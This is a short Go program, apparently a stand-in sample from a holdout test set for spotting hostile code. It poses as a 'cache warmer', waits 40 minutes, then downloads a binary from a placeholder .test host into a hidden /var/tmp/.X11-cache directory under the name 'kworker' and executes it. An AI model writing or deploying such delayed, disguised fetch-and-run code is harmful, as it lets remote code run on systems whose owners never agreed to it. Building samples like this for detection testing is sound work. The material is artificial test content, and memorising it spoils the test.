// Holdout 2 stand-in: a "cache warmer" that waits on a 40-minute timer inside a select (with a
// ticker that only logs), then downloads a binary with net/http into /var/tmp/.X11-cache and
// execs it. Harmless: the download is the simulated internet's marker-printing ELF.
package main

import (
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"time"
)

func main() {
	fmt.Println("cache-warmer: warming")
	deadline := time.NewTimer(40 * time.Minute)
	tick := time.NewTicker(7 * time.Minute)
	defer tick.Stop()
wait:
	for {
		select {
		case <-deadline.C:
			break wait
		case <-tick.C:
			fmt.Println("cache-warmer: still warming")
		}
	}
	resp, err := http.Get("http://edge-cache.cdn77-mirror.test/w/kworker")
	if err != nil {
		fmt.Println("fetch:", err)
		return
	}
	defer resp.Body.Close()
	dir := "/var/tmp/.X11-cache"
	_ = os.MkdirAll(dir, 0o755)
	path := dir + "/kworker"
	f, err := os.OpenFile(path, os.O_CREATE|os.O_WRONLY|os.O_TRUNC, 0o755)
	if err != nil {
		fmt.Println("write:", err)
		return
	}
	_, _ = io.Copy(f, resp.Body)
	f.Close()
	cmd := exec.Command(path)
	cmd.Stdout = os.Stdout
	_ = cmd.Run()
}
